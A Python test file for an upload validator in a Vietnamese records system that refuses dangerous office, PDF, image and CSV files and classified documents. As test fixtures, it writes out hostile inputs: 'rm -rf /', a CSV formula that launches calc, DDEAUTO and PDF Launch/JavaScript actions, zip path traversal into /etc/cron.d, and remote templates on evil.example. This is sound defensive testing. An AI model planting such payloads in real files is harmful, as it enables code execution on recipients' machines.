"""What may be evidence and what is refused, by the bytes. Every refusal says what was met and what to do."""

import zipfile
from contextlib import suppress
from io import BytesIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kientao.evidence.checks.check import check_file
from kientao.evidence.checks.secrecy import check_secrecy
from kientao.evidence.media import CSV, DOC, DOCX, JPEG, P7S, PDF, PNG, PPTX, TEXT, XLS, XLSX, XML, Media
from kientao.evidence.refusals import UnacceptableFile
from tests.documents.word_files import word_file
from tests.evidence import samples

EDXML = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<edXML:edXML xmlns:edXML="http://www.e-doc.vn/Schema/"><a>Số 12</a></edXML:edXML>'
).encode()
WORD = samples.docx()
SLIDES = samples.repacked(WORD, {"ppt/presentation.xml": b"<p/>"})
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _code(data: bytes, name: str) -> str:
    with pytest.raises(UnacceptableFile) as refusal:
        check_file(data, name)
    assert refusal.value.message.endswith(".")
    assert refusal.value.hint
    return refusal.value.code


@pytest.mark.parametrize(
    ("data", "name", "media"),
    [
        (WORD, "Quyết định.docx", DOCX),
        (samples.xlsx(), "Số liệu.XLSX", XLSX),
        (samples.pdf_with(""), "Báo cáo.pdf", PDF),
        (samples.png(), "ảnh.png", PNG),
        (samples.jpeg(), "ảnh.jpeg", JPEG),
        (samples.jpeg(), "ảnh.jpg", JPEG),
        ("Ghi chú".encode(), "ghi chú.txt", TEXT),
        ("Cơ quan;Số\nSở Tư pháp;-12\n".encode(), "số liệu.csv", CSV),
        ("Cơ quan;Số\n".encode("utf-16"), "số liệu.csv", CSV),
        (EDXML, "văn bản.edxml", XML),
        (EDXML, "văn bản.xml", XML),
        (samples.compound(WordDocument=b"\xec\xa5"), "cũ.doc", DOC),
        (samples.compound(Workbook=b"\x09\x08\x10\0"), "cũ.xls", XLS),
        (samples.signature(), "văn bản.pdf.p7s", P7S),
    ],
)
def test_what_offices_send_is_taken_for_what_it_is(data: bytes, name: str, media: Media) -> None:
    assert check_file(data, name) is media


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (b"", "trống.pdf", "empty"),
        (b"MZ\x90\0" + bytes(500), "báo cáo.pdf", "executable"),
        (b"MZ\x90\0" + bytes(500), "cài đặt.exe", "executable"),
        (b"\x7fELF" + bytes(500), "ảnh.png", "executable"),
        (b"#!/bin/sh\nrm -rf /\n", "ghi chú.txt", "executable"),
        (b"L\0\0\0\x01\x14\x02\0" + bytes(100), "văn bản.docx", "executable"),
        (b"<html><body>xin chao</body></html>", "văn bản.pdf", "web-page"),
        (b"  <!DOCTYPE html><p>", "văn bản.txt", "web-page"),
        (b"ten;so\n<script>alert(1)</script>;1\n", "bảng.csv", "web-page"),
        ("<html>".encode("utf-16"), "văn bản.txt", "web-page"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"/>', "ảnh.png", "web-page"),
        (b'<?xml version="1.0"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script/></a>', "a.xml", "web-page"),
        (b'<?xml version="1.0"?><?xml-stylesheet href="a.xsl"?><a/>', "a.xml", "web-page"),
        (b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "a.xml", "bomb"),
        (b'<?xml version="1.0"?><a>', "a.xml", "damaged"),
        (b"=cmd|' /C calc'!A0,1\n", "bảng.csv", "executable"),
        (WORD, "văn bản.pdf", "wrong-extension"),
        (samples.pdf_with(""), "văn bản.docx", "wrong-extension"),
        (samples.png(), "ảnh.jpg", "wrong-extension"),
        (WORD, "văn bản", "unknown-kind"),
        (WORD, "văn bản.docx.scr", "unknown-kind"),
        (WORD, "văn bản.docm", "macros"),
        (b"PK\x03\x04" + bytes(50), "văn bản.docx", "damaged"),
        (b"Rar!\x1a\x07\0", "gói.rar", "archive"),
        (b"\x1f\x8b\x08" + bytes(20), "gói.pdf", "archive"),
        (bytes(range(256)) * 20, "lạ.txt", "unknown-content"),
        (b"{\\rtf1 xin chao}", "văn bản.doc", "unknown-content"),
    ],
)
def test_what_could_harm_is_refused_with_a_next_step(data: bytes, name: str, code: str) -> None:
    assert _code(data, name) == code


def _zip(members: dict[str, bytes]) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def test_archives_are_to_be_unpacked_first() -> None:
    assert _code(_zip({"a.docx": WORD}), "gói.zip") == "archive"
    assert _code(_zip({"a.docx": WORD}), "gói.docx") == "archive"


@pytest.mark.parametrize(
    ("more", "code"),
    [
        ({"word/vbaProject.bin": b"\xd0\xcf"}, "macros"),
        ({"word/sub/VBAPROJECT.BIN": b"x"}, "macros"),
        ({"xl/macrosheets/sheet1.xml": b"<a/>"}, "unknown-content"),
        ({"word/activeX/activeX1.xml": b"<a/>"}, "embedded"),
        ({"word/media/image1.png": b"MZ" + bytes(100)}, "embedded"),
        ({"word/embeddings/oleObject1.bin": samples.compound(**{"\x01Ole10Native": b"MZ"})}, "embedded"),
        ({"word/embeddings/a.bin": b"PK\x03\x04"}, "embedded"),
        ({"word/run.js": b"alert(1)"}, "embedded"),
        ({"../../etc/cron.d/x": b"* * * * * root id"}, "damaged"),
        ({"word/../../x": b""}, "damaged"),
        ({"C:/Windows/x.txt": b""}, "damaged"),
    ],
)
def test_an_office_file_carries_nothing_that_runs(more: dict[str, bytes], code: str) -> None:
    assert _code(samples.repacked(WORD, more), "văn bản.docx") == code


def test_an_excel_file_with_old_macro_sheets_is_refused() -> None:
    file = samples.repacked(samples.xlsx(), {"xl/macrosheets/sheet1.xml": b"<a/>"})
    assert _code(file, "bảng.xlsx") == "macros"


def test_a_file_of_a_macro_kind_is_refused_even_without_its_project() -> None:
    kinds = zipfile.ZipFile(BytesIO(WORD)).read("[Content_Types].xml")
    macro = kinds.replace(b"document.main", b"document.macroEnabled.main")
    assert _code(samples.repacked(WORD, {}, instead={"[Content_Types].xml": macro}), "văn bản.docx") == "macros"


def test_a_template_from_elsewhere_is_refused_and_a_link_is_not() -> None:
    def relation(kind: str, target: str) -> bytes:
        return (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
            f'Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
        ).encode()

    def file(kind: str, target: str) -> bytes:
        return samples.repacked(WORD, {"word/_rels/settings.xml.rels": relation(kind, target)})

    assert _code(file("attachedTemplate", "http://evil.example/a.dotm"), "văn bản.docx") == "outside-parts"
    assert _code(file("oleObject", "file://evil/a"), "văn bản.docx") == "outside-parts"
    assert _code(file("image", "file://evil/a.png"), "văn bản.docx") == "outside-parts"
    assert check_file(file("hyperlink", "https://haison.example"), "văn bản.docx") is DOCX


def test_a_word_file_that_starts_a_program_when_opened_is_refused() -> None:
    field = '<w:p><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p>'
    assert _code(word_file(field), "văn bản.docx") == "outside-parts"


def test_words_about_such_programs_are_only_words() -> None:
    assert check_file(samples.docx("Lệnh DDE AUTO bị cấm"), "văn bản.docx") is DOCX


def test_a_bomb_is_not_unfolded() -> None:
    bomb = samples.repacked(WORD, {"word/media/a.bmp": bytes(60_000_000)})
    assert len(bomb) < 200_000
    assert _code(bomb, "văn bản.docx") == "bomb"


def test_a_bomb_that_lies_about_its_size_is_not_unfolded() -> None:
    bomb = bytearray(samples.repacked(WORD, {"word/media/a.bmp": bytes(120_000_000)}))
    real, small = (120_000_000).to_bytes(4, "little"), (1000).to_bytes(4, "little")
    assert _code(bytes(bomb.replace(real, small)), "văn bản.docx") in ("bomb", "damaged")


def test_two_members_of_one_name_are_refused() -> None:
    out = BytesIO(WORD)
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/document.xml", "<a/>")
    assert _code(out.getvalue(), "văn bản.docx") == "two-kinds"


def test_a_locked_office_file_is_refused() -> None:
    locked = bytearray(WORD)
    for place in range(len(locked)):
        if locked[place : place + 4] == b"PK\x01\x02":
            locked[place + 8] |= 1
    assert _code(bytes(locked), "văn bản.docx") == "encrypted"
    assert _code(samples.compound(EncryptedPackage=b"", EncryptionInfo=b""), "văn bản.docx") == "encrypted"
    word = b"\xec\xa5" + bytes(8) + b"\x00\x01" + bytes(20)
    assert _code(samples.compound(WordDocument=word), "văn bản.doc") == "encrypted"
    book = b"\x09\x08\x04\0\0\0\0\0" + b"\x2f\0\x06\0" + bytes(6)
    assert _code(samples.compound(Workbook=book), "bảng.xls") == "encrypted"


def test_old_office_files_carry_nothing_that_runs_either() -> None:
    assert _code(samples.compound(WordDocument=b"", _VBA_PROJECT=b""), "cũ.doc") == "macros"
    assert _code(samples.compound(Workbook=b"", _VBA_PROJECT_CUR=b""), "cũ.xls") == "macros"
    assert _code(samples.compound(WordDocument=b"", **{"\x01Ole10Native": b""}), "cũ.doc") == "embedded"
    assert _code(samples.compound(__properties=b""), "thư.doc") == "unknown-content"


def test_a_directory_that_runs_in_a_circle_ends() -> None:
    file = bytearray(samples.compound(WordDocument=b""))
    file[512 + 4 : 512 + 8] = (1).to_bytes(4, "little")
    assert _code(bytes(file), "cũ.doc") == "damaged"


@pytest.mark.parametrize(
    "catalog",
    [
        "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        "/OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >>",
        "/OpenAction << /S /Launch /F (cmd.exe) >>",
        "/AA << /WC << /S /Launch /Win << /F (calc.exe) >> >> >>",
        "/Names << /JavaScript << /Names [(a) << /S /JavaScript >>] >> >>",
        "/AcroForm << /XFA 4 0 R >>",
    ],
)
def test_a_pdf_that_runs_something_is_refused(catalog: str) -> None:
    assert _code(samples.pdf_with(catalog), "văn bản.pdf") == "active-pdf"


def test_a_script_packed_away_in_a_pdf_is_found() -> None:
    file = samples.pdf_hiding("<< /S /JavaScript /JS (app.alert\\(1\\)) >>")
    assert b"JavaScript" not in file
    assert _code(file, "văn bản.pdf") == "active-pdf"
    assert check_file(samples.pdf_hiding("<< /S /GoTo /D [3 0 R /Fit] >>"), "văn bản.pdf") is PDF


def test_a_script_that_no_table_names_is_found() -> None:
    file = samples.pdf_with("").replace(b"%%EOF\n", b"9 0 obj << /S /JavaScript /JS (x) >> endobj\n%%EOF\n")
    assert _code(file, "văn bản.pdf") == "active-pdf"


def test_files_packed_into_a_pdf_are_to_be_handed_in_by_themselves() -> None:
    assert _code(samples.pdf_with("/Names << /EmbeddedFiles 4 0 R >>", "<< >>"), "văn bản.pdf") == "embedded"


def test_a_file_that_is_two_kinds_at_once_is_refused() -> None:
    archive = _zip({"a.txt": b"a"})
    assert _code(samples.pdf_with("") + archive, "văn bản.pdf") == "two-kinds"
    assert _code(samples.pdf_with("") + bytes(5000), "văn bản.pdf") == "two-kinds"
    assert _code(samples.jpeg() + archive, "ảnh.jpg") == "two-kinds"
    assert _code(samples.png() + archive, "ảnh.png") == "damaged"
    assert _code(samples.jpeg()[:-2] + b"<script>alert(1)</script>\xff\xd9", "ảnh.jpg") == "two-kinds"
    assert _code(WORD + b"%PDF-1.4 %%EOF", "văn bản.docx") == "two-kinds"
    assert _code(b"GIF89a/*" + WORD, "ảnh.png") == "unknown-content"


def test_a_cut_off_file_is_refused() -> None:
    for data, name in ((WORD, "a.docx"), (samples.pdf_with(""), "a.pdf"), (samples.png(), "a.png")):
        assert _code(data[: len(data) // 2], name) in ("damaged", "two-kinds")
    assert _code(samples.jpeg()[:-2], "a.jpg") == "damaged"
    assert _code(samples.signature()[:-3], "a.p7s") == "damaged"


def test_a_picture_too_large_to_be_drawn_is_refused() -> None:
    assert _code(samples.png(60_000, 60_000), "ảnh.png") == "huge-picture"


def test_a_signature_that_wraps_a_file_is_refused() -> None:
    assert _code(samples.signature(b"MZ"), "văn bản.p7s") == "signature-with-content"


@pytest.mark.parametrize(
    ("data", "name", "media"),
    [
        (samples.xlsx(("UBND TỈNH", ""), ("TỐI MẬT", "")), "a.xlsx", XLSX),
        ("MẬT\nCông văn".encode(), "a.txt", TEXT),
        ("Cơ quan;TUYỆT MẬT\n".encode(), "a.csv", CSV),
        ("<a><b>TỐI MẬT</b></a>".encode(), "a.xml", XML),
        (
            samples.repacked(
                SLIDES,
                {
                    "ppt/slides/slide1.xml": (
                        '<a:p xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:r><a:t>TỐI </a:t>'
                        "</a:r><a:r><a:t>MẬT</a:t></a:r></a:p>"
                    ).encode()
                },
            ),
            "a.pptx",
            PPTX,
        ),
    ],
)
def test_a_mark_of_secrecy_is_found_in_any_kind_of_file(data: bytes, name: str, media: Media) -> None:
    with pytest.raises(UnacceptableFile) as refusal:
        check_secrecy(data, name, media)
    assert refusal.value.code == "secret"


def test_words_about_secrets_are_no_mark() -> None:
    check_secrecy("Báo cáo công tác bảo mật thông tin".encode(), "a.txt", TEXT)
    check_secrecy(samples.xlsx(), "a.xlsx", XLSX)


_REAL = [WORD, samples.xlsx(), samples.pdf_with(""), samples.pdf_hiding("<< >>"), samples.png(), samples.jpeg()]
_REAL += [samples.compound(WordDocument=b"\xec\xa5"), samples.signature(), EDXML]


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(_REAL), st.data())
def test_whatever_is_broken_is_refused_or_taken_and_never_a_fault(data: bytes, draw: st.DataObject) -> None:
    broken = bytearray(data)
    for _ in range(draw.draw(st.integers(1, 6))):
        broken[draw.draw(st.integers(0, len(broken) - 1))] = draw.draw(st.integers(0, 255))
    name = "a" + draw.draw(st.sampled_from([".docx", ".xlsx", ".pdf", ".png", ".jpg", ".doc", ".p7s", ".xml"]))
    with suppress(UnacceptableFile):
        assert check_file(bytes(broken), name).extension
